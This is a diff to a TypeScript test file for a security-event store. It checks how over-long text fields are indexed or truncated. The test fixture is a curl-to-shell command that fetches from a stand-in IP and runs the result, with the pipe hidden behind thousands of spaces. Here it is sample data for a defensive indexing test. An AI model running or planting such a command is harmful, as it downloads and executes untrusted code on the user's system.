@@ -1,5 +1,14 @@
 import { saveEvents } from "@mozdef/alert-store";
-import { type Clause, compile, ExistsMatch, PhraseMatch, SearchQuery, TermMatch, WildcardMatch } from "@mozdef/query";
+import {
+  type Clause,
+  compile,
+  ExistsMatch,
+  type FieldKinds,
+  PhraseMatch,
+  SearchQuery,
+  TermMatch,
+  WildcardMatch,
+} from "@mozdef/query";
 import { describe, expect, it } from "vitest";
 import { documentsOf, NOW, openStore } from "./open-store.ts";
 
@@ -7,8 +16,8 @@ import { documentsOf, NOW, openStore } from "./open-store.ts";
 const PADDED = `curl http://198.51.100.7/x ${" ".repeat(9_000)}| sh`;
 const FOUND = PADDED.slice(0, 8_191);
 
-const saved = async (event: object) => {
-  const store = await openStore();
+const saved = async (event: object, fields: FieldKinds = {}) => {
+  const store = await openStore({ fields });
   const [result] = await saveEvents(store, [event], { now: NOW, refresh: true });
   const [document] = await documentsOf(store, "events-20170101");
   const index = store.names.physical("events-20170101");
@@ -44,5 +53,22 @@ describe("a text that is too long to be indexed", () => {
     const { result, source, finds } = await saved({ summary: PADDED });
     expect([result, source.summary]).toEqual([expect.objectContaining({ isInPart: false }), PADDED]);
     expect(await finds(PhraseMatch("summary", "sh"))).toBe(true);
+  });
+
+  it.each([
+    ["an object", { details: { script: PADDED } }],
+    ["a dotted name", { "details.script": PADDED }],
+    ["a list", { details: { script: ["echo", PADDED] } }],
+  ])("stays as it is in a text that a pack declares: %s", async (_, event) => {
+    const { result, source, finds } = await saved({ summary: "x", ...event }, { "details.script": "text" });
+    expect(result).toMatchObject({ ok: true, isInPart: false });
+    expect(source).toMatchObject(event);
+    expect(source).not.toHaveProperty("unmapped");
+    expect(await finds(PhraseMatch("details.script", "sh"))).toBe(true);
+  });
+
+  it("is shortened in a field that a pack declares as another kind", async () => {
+    const { source } = await saved({ details: { script: PADDED } }, { "details.script": "keyword" });
+    expect(source.details).toEqual({ script: FOUND });
   });
 });
